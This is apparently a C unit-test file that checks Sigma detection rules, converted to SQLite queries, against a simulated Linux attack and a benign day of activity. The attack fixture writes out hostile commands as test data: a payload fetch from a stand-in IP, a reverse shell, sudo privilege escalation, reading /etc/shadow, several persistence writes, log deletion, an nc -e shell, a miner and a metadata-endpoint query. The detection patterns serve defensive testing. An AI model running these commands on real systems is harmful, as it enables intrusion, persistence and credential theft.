// SPDX-License-Identifier: GPL-2.0-only
/*
 * Conditions as rules of Sigma become when they are converted to SQLite, on the views for
 * them: each finds in an attack what it means, and nothing in a day's work.
 */
#include "story.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

enum { WWW = 33, USER = 1000 };

static struct rig rig;

static const struct step attack[] = {
	RAN(600, 0, "/usr/sbin/nginx", "nginx: worker process", .uid = WWW),
	RAN(601, 600, "/usr/bin/dash", "sh -c id; wget -q http://203.0.113.9/x", .uid = WWW),
	RAN(602, 601, "/usr/bin/id", "id", .uid = WWW),
	RAN(603, 601, "/usr/bin/wget", "wget -q http://203.0.113.9/x -O /tmp/.x/kworker",
	  .uid = WWW),
	HAS_DIALLED(603, "203.0.113.9", 80),
	HAS_WRITTEN(603, "/tmp/.x/kworker"),
	RAN(604, 601, "/usr/bin/chmod", "chmod 777 /tmp/.x/kworker", .uid = WWW),
	RAN(605, 601, "/tmp/.x/kworker", "[kworker/0:1]", .uid = WWW),
	RAN(606, 605, "/usr/bin/bash", "bash -i", .uid = WWW),
	HAS_DIALLED(606, "203.0.113.9", 4444),
	RAN(607, 606, "/usr/bin/python3.11",
	  "python3 -c import pty; pty.spawn(\"/bin/bash\")", .uid = WWW),
	RAN(608, 607, "/usr/bin/sudo", "sudo -u#-1 /bin/bash"),
	RAN(609, 608, "/usr/bin/bash", "/bin/bash"),
	RAN(610, 609, "/usr/bin/cat", "cat /etc/shadow"),
	RAN(611, 609, "/usr/bin/base64", "base64 -d /tmp/p.b64"),
	HAS_WRITTEN(609, "/etc/cron.d/zz-update"),
	RAN(612, 609, "/usr/bin/tee", "tee -a /root/.ssh/authorized_keys"),
	HAS_WRITTEN(612, "/root/.ssh/authorized_keys"),
	HAS_WRITTEN(609, "/etc/ld.so.preload"),
	HAS_WRITTEN(609, "/tmp/p.sh"),
	RAN(613, 609, "/usr/bin/mv", "mv /tmp/p.sh /etc/profile.d/p.sh"),
	HAS_RENAMED(613, "/tmp/p.sh", "/etc/profile.d/p.sh"),
	HAS_WRITTEN(609, "/etc/systemd/system/dbus-helper.service"),
	HAS_WRITTEN(609, "/etc/sudoers.d/90-x"),
	RAN(614, 609, "/usr/sbin/useradd", "useradd -o -u 0 -g 0 support"),
	RAN(615, 609, "/usr/bin/systemctl", "systemctl stop auditd.service"),
	RAN(616, 609, "/usr/bin/kmod", "insmod /tmp/.x/r.ko"),
	RAN(617, 609, "/usr/bin/rm", "rm -rf /var/log/auth.log"),
	RAN(618, 609, "/usr/bin/nc.traditional", "nc -lvp 31337 -e /bin/sh"),
	HAS_TAKEN(618, "203.0.113.9", 31337),
	RAN(619, 609, "/tmp/.x/xm", "xm -o stratum+tcp://198.51.100.20:3333 --donate-level=1"),
	HAS_DIALLED(619, "198.51.100.20", 3333),
	RAN(620, 609, "/usr/bin/curl",
	  "curl -s http://169.254.169.254/latest/meta-data/iam/"),
	HAS_DIALLED(620, "169.254.169.254", 80),
	RAN(621, 609, "/usr/bin/docker", "docker run -v /:/mnt --privileged -it alpine"),
	RAN(622, 609, "/usr/sbin/setcap", "setcap cap_setuid+ep /usr/bin/python3.11"),
	RAN(623, 609, "/usr/bin/chattr", "chattr +i /etc/cron.d/zz-update"),
	RAN(624, 609, "/usr/bin/touch", "touch -r /usr/bin/ls /etc/cron.d/zz-update"),
	RAN(625, 609, "/usr/sbin/xtables-nft-multi", "iptables -F"),
	RAN(626, 609, "/usr/bin/perl", "perl -MSocket -e socket(S,2,1,6)"),
};

static const struct step day[] = {
	RAN(700, 0, "/usr/sbin/nginx", "nginx: master process"),
	RAN(701, 700, "/usr/sbin/nginx", "nginx: worker process", .uid = WWW),
	HAS_TAKEN(701, "198.51.100.77", 443),
	RAN(702, 0, "/usr/sbin/cron", "cron -f"),
	RAN(703, 702, "/usr/bin/dash", "sh -c /usr/sbin/logrotate /etc/logrotate.conf"),
	RAN(704, 703, "/usr/sbin/logrotate", "logrotate /etc/logrotate.conf"),
	HAS_RENAMED(704, "/var/log/syslog", "/var/log/syslog.1"),
	HAS_WRITTEN(704, "/var/log/syslog"),
	RAN(705, 0, "/usr/sbin/sshd", "sshd: u [priv]"),
	RAN(706, 705, "/usr/bin/bash", "-bash", .uid = USER),
	HAS_WRITTEN(706, "/home/u/.bash_history"),
	RAN(707, 706, "/usr/bin/cat", "cat /etc/hosts", .uid = USER),
	RAN(708, 706, "/usr/bin/curl", "curl -sO https://example.org/x.deb", .uid = USER),
	HAS_DIALLED(708, "151.101.2.132", 443),
	HAS_WRITTEN(708, "/home/u/x.deb"),
	RAN(709, 706, "/usr/bin/sudo", "sudo systemctl restart nginx"),
	RAN(710, 709, "/usr/bin/systemctl", "systemctl restart nginx"),
	RAN(711, 706, "/usr/bin/python3.11", "python3 -m http.server 8000", .uid = USER),
	HAS_TAKEN(711, "10.0.0.5", 8000),
	RAN(712, 706, "/usr/bin/base64", "base64 picture.png", .uid = USER),
	RAN(713, 706, "/usr/bin/rm", "rm -f /home/u/x.deb", .uid = USER),
	RAN(714, 706, "/usr/bin/chmod", "chmod 755 /home/u/tool", .uid = USER),
	RAN(715, 706, "/usr/bin/docker", "docker run --rm -it alpine", .uid = USER),
	RAN(716, 706, "/usr/bin/perl", "perl -ne print", .uid = USER),
	RAN(717, 706, "/usr/bin/touch", "touch notes", .uid = USER),
	RAN(718, 706, "/usr/bin/wget", "wget -q https://example.org/a.html", .uid = USER),
	HAS_DIALLED(718, "93.184.216.34", 443),
	HAS_WRITTEN(718, "/home/u/a.html"),
	RAN(719, 0, "/usr/lib/systemd/systemd", "/sbin/init"),
	HAS_WRITTEN(719, "/run/systemd/units/log-extra:nginx.service"),
	RAN(720, 0, "/usr/sbin/useradd", "useradd -m -s /bin/bash eve"),
	RAN(721, 0, "/usr/sbin/xtables-nft-multi", "iptables -L -n"),
	RAN(722, 0, "/usr/bin/kmod", "modprobe xfs"),
	RAN(723, 0, "/usr/bin/nc.openbsd", "nc -z 10.0.0.2 22"),
	HAS_DIALLED(723, "10.0.0.2", 22),
};

#define CREATED "sigma_process_creation WHERE "
#define FILE_IS "sigma_file_event WHERE "
#define DIALLED "sigma_network_connection WHERE "
#define LIKE(value) " LIKE '" value "' ESCAPE '\\'"

/* As the converter writes them, and the ProcessIds of what they find, in their order. */
static const struct {
	const char *condition;
	const char *pids;
} rules[] = {
	{ CREATED "ParentImage" LIKE("%/nginx") " AND (Image" LIKE("%/sh") " OR Image"
	  LIKE("%/bash") " OR Image" LIKE("%/dash") ")", "601" },
	{ CREATED "ParentCommandLine" LIKE("%sh -c%") " AND Image" LIKE("%/id")
	  " AND User='www-data'", "" },
	{ CREATED "ParentCommandLine" LIKE("%sh -c%") " AND Image" LIKE("%/id")
	  " AND LogonId=33", "602" },
	{ CREATED "(Image" LIKE("%/wget") " OR Image" LIKE("%/curl") ") AND CommandLine"
	  LIKE("% -O /tmp/%"), "603" },
	{ CREATED "Image" LIKE("%/chmod") " AND CommandLine" LIKE("%chmod 777%"), "604" },
	{ CREATED "Image" LIKE("/tmp/%") " OR Image" LIKE("/dev/shm/%"), "605 619" },
	{ CREATED "CommandLine" LIKE("[kworker%") " AND NOT Image" LIKE("/usr/%"), "605" },
	{ CREATED "Image" LIKE("%/bash") " AND CommandLine" LIKE("% -i%") " AND ParentImage"
	  LIKE("/tmp/%"), "606" },
	{ CREATED "Image" LIKE("%/python3%") " AND CommandLine" LIKE("%import pty%")
	  " AND CommandLine" LIKE("%pty.spawn%"), "607" },
	{ CREATED "CommandLine" LIKE("%sudo -u#-1%") " AND User='ROOT'", "608" },
	{ CREATED "Image" LIKE("%/CAT") " AND CommandLine" LIKE("%/etc/shadow%"), "610" },
	{ CREATED "Image='/USR/bin/base64' AND CommandLine" LIKE("% -d%"), "611" },
	{ CREATED "Image" LIKE("%/useradd") " AND (CommandLine" LIKE("% -u 0%") " OR CommandLine"
	  LIKE("% --uid 0%") ")", "614" },
	{ CREATED "Image" LIKE("%/systemctl") " AND CommandLine" LIKE("%stop%")
	  " AND CommandLine" LIKE("%auditd%"), "615" },
	{ CREATED "Image" LIKE("%/kmod") " AND CommandLine" LIKE("insmod%")
	  " AND LogonId='0'", "616" },
	{ CREATED "Image" LIKE("%/rm") " AND CommandLine" LIKE("%/var/log/%"), "617" },
	{ CREATED "(Image" LIKE("%/nc") " OR Image" LIKE("%/nc.%") ") AND CommandLine"
	  LIKE("% -e /bin/%"), "618" },
	{ CREATED "CommandLine" LIKE("%stratum+tcp://%") " OR CommandLine"
	  LIKE("%--donate-level%"), "619" },
	{ CREATED "CommandLine" LIKE("%169.254.169.254%") " AND CurrentDirectory='/var/tmp'",
	  "620" },
	{ CREATED "Image" LIKE("%/docker") " AND CommandLine" LIKE("%--privileged%"), "621" },
	{ CREATED "Image" LIKE("%/setcap") " AND CommandLine" LIKE("%cap\\_setuid%"), "622" },
	{ CREATED "Image" LIKE("%/chattr") " AND CommandLine" LIKE("%+i %"), "623" },
	{ CREATED "Image" LIKE("%/touch") " AND CommandLine" LIKE("% -r %"), "624" },
	{ CREATED "CommandLine='iptables -F' OR CommandLine" LIKE("iptables --flush%"), "625" },
	{ CREATED "Image" LIKE("%/perl") " AND CommandLine" LIKE("%-MSocket%"), "626" },
	{ CREATED "ParentProcessId=601 AND ProcessId IN (602, 604)", "602 604" },
	{ CREATED "CommandLine GLOB '*/bin/Bash*'", "" },
	{ FILE_IS "TargetFilename" LIKE("/etc/cron.%"), "609" },
	{ FILE_IS "TargetFilename" LIKE("%/.ssh/authorized\\_keys"), "612" },
	{ FILE_IS "TargetFilename='/etc/ld.so.preload'", "609" },
	{ FILE_IS "TargetFilename" LIKE("/etc/profile.d/%") " AND Image" LIKE("%/mv"), "613" },
	{ FILE_IS "TargetFilename" LIKE("/etc/systemd/system/%") " AND TargetFilename"
	  LIKE("%.service"), "609" },
	{ FILE_IS "TargetFilename" LIKE("/etc/sudoers.d/%") " AND User='root'", "609" },
	{ FILE_IS "TargetFilename" LIKE("/tmp/.%") " AND Image" LIKE("%/wget"), "603" },
	{ DIALLED "Initiated='true' AND DestinationPort IN (4444, 1337)", "606" },
	{ DIALLED "Initiated='true' AND DestinationPort='3333'", "619" },
	{ DIALLED "Initiated='true' AND DestinationIp='169.254.169.254'", "620" },
	{ DIALLED "Initiated='false' AND Image" LIKE("%/nc%") " AND SourceIp"
	  LIKE("203.0.113.%"), "618" },
	{ DIALLED "Image" LIKE("%/bash") " AND NOT (DestinationIp" LIKE("10.%")
	  " OR DestinationIp" LIKE("127.%") ")", "606" },
	{ DIALLED "Image" LIKE("/tmp/%") " AND Protocol='TCP'", "619" },
};

static char *pids_of(const char *condition)
{
	char sql[1024];

	snprintf(sql, sizeof(sql), "SELECT group_concat(ProcessId, ' ') FROM (SELECT * FROM %s)",
		 condition);
	return rig_rows(sql);
}

START_TEST(finds_the_attack)
{
	const char *want = *rules[_i].pids ? rules[_i].pids : "-";
	char *have;

	rig_open(&rig);
	STORY_TELL(&rig, attack);
	have = pids_of(rules[_i].condition);
	ck_assert_msg(!strcmp(have, want), "%s\nwant: %s\nhave: %s", rules[_i].condition, want,
		      have);
	free(have);
	rig_close(&rig);
}
END_TEST

START_TEST(finds_nothing_else)
{
	char *have;

	rig_open(&rig);
	STORY_TELL(&rig, day);
	have = pids_of(rules[_i].condition);
	ck_assert_msg(!strcmp(have, "-"), "%s\nhave: %s", rules[_i].condition, have);
	free(have);
	rig_close(&rig);
}
END_TEST

/* Each row leads on: to the process, and to the row that it was made of. */
START_TEST(leads_on)
{
	rig_open(&rig);
	STORY_TELL(&rig, attack);
	rig_check("SELECT p.exe, e.argv FROM sigma_process_creation s"
		  " JOIN process p USING (process_id) JOIN execution e USING (execution_id)"
		  " WHERE s.Image LIKE '%/base64'",
		  "/usr/bin/base64|base64 -d /tmp/p.b64");
	rig_check("SELECT a.path, a.bytes_written, s.op FROM sigma_file_event s"
		  " JOIN file_access a USING (access_id) WHERE TargetFilename LIKE '%preload'",
		  "/etc/ld.so.preload|10|create");
	rig_check("SELECT c.path, c.new_path FROM sigma_file_event s"
		  " JOIN file_change c USING (change_id)",
		  "/tmp/p.sh|/etc/profile.d/p.sh");
	rig_check("SELECT c.bytes_to_client, c.scope FROM sigma_network_connection s"
		  " JOIN connection c USING (connection_id) WHERE DestinationPort = 3333",
		  "2000|public");
	rig_check("SELECT UtcTime, t(ts), ProcessGuid, TerminalSessionId, ParentUser,"
		  " ParentProcessId FROM sigma_process_creation WHERE ProcessId = 602",
		  "2023-11-14 22:15:07.374|8000|{11111111-1111-4111-8111-111111111111-4}|3|33|601");
	rig_close(&rig);
}
END_TEST

static const struct step changing[] = {
	RAN(800, 0, "/usr/bin/dash", "sh -i"),
	RAN(801, 800, "/usr/bin/cat", "cat a"),
	HAS_WRITTEN(800, "/tmp/by-dash"),
	HAS_DIALLED(800, "192.0.2.1", 80),
	RAN(800, 0, "/usr/bin/vi", "vi b"),
	RAN(802, 800, "/usr/bin/cat", "cat c"),
	HAS_WRITTEN(800, "/tmp/by-vi"),
	HAS_DIALLED(800, "192.0.2.2", 80),
	RAN(800, 0, "/usr/bin/sleep", "sleep 1"),
};

/* What a process ran then, and not what it went on to run. */
START_TEST(as_it_was_then)
{
	rig_open(&rig);
	STORY_TELL(&rig, changing);
	rig_check("SELECT CommandLine, ParentCommandLine, ParentImage FROM sigma_process_creation"
		  " WHERE Image LIKE '%/cat'",
		  "cat a|sh -i|/usr/bin/dash\ncat c|vi b|/usr/bin/vi");
	rig_check("SELECT TargetFilename, Image, CommandLine FROM sigma_file_event",
		  "/tmp/by-dash|/usr/bin/dash|sh -i\n/tmp/by-vi|/usr/bin/vi|vi b");
	rig_check("SELECT DestinationIp, Image FROM sigma_network_connection",
		  "192.0.2.1|/usr/bin/dash\n192.0.2.2|/usr/bin/vi");
	rig_close(&rig);
}
END_TEST

/* A child that has not executed yet does what its creator runs; of those that were found
 * running it is what they ran when they were found. */
START_TEST(before_its_own)
{
	uint64_t parent = story_key(800), child = story_key(801);

	rig_open(&rig);
	forge_process(&rig.forge, parent, 0, "/usr/sbin/sshd");
	rig_dump(&rig);
	rig.forge.now += RIG_STEP;
	forge_write(&rig.forge, 1, parent, 11, 5);
	forge_fork(&rig.forge, parent, child);
	rig.forge.now += RIG_STEP;
	forge_write(&rig.forge, 2, child, 12, 5);
	rig.forge.now += RIG_STEP;
	FORGE_EXEC(&rig.forge, child, parent, "/usr/bin/bash", "-bash");
	rig.forge.now += RIG_STEP;
	forge_write(&rig.forge, 3, child, 13, 5);
	rig_expect(&rig, "SELECT TargetFilename, Image FROM sigma_file_event ORDER BY ts",
		   "/f/11|/usr/sbin/sshd\n/f/12|/usr/sbin/sshd\n/f/13|/usr/bin/bash");
	rig_close(&rig);
}
END_TEST

/* Both ends are on this host: each is a row, the source is who began it. */
START_TEST(both_ends)
{
	rig_open(&rig);
	FORGE_EXEC(&rig.forge, story_key(800), 0, "/bin/curl", "curl");
	FORGE_EXEC(&rig.forge, story_key(801), 0, "/sbin/redis", "redis");
	rig.forge.now += RIG_STEP;
	forge_connection(&rig.forge, 1, story_key(800), story_key(801));
	forge_unix(&rig.forge, 2, KITH_PROTOCOL_UNIX_STREAM, FORGE_NAME("/run/s"));
	rig_expect(&rig, "SELECT Image, Initiated, SourceIp, SourcePort, DestinationIp,"
			 " DestinationPort, SourceIsIpv6, connection_id, peer_id"
			 " FROM sigma_network_connection ORDER BY process_id",
		   "/bin/curl|true|10.0.0.1|40000|10.0.0.2|80|false|1|2\n"
		   "/sbin/redis|false|10.0.0.1|40000|10.0.0.2|80|false|1|1");
	rig_close(&rig);
}
END_TEST

int main(void)
{
	Suite *suite = suite_create("sigma");

	unit_add_rows(suite, finds_the_attack, UNIT_COUNT(rules));
	unit_add_rows(suite, finds_nothing_else, UNIT_COUNT(rules));
	unit_add(suite, leads_on);
	unit_add(suite, as_it_was_then);
	unit_add(suite, before_its_own);
	unit_add(suite, both_ends);
	return unit_run(suite);
}
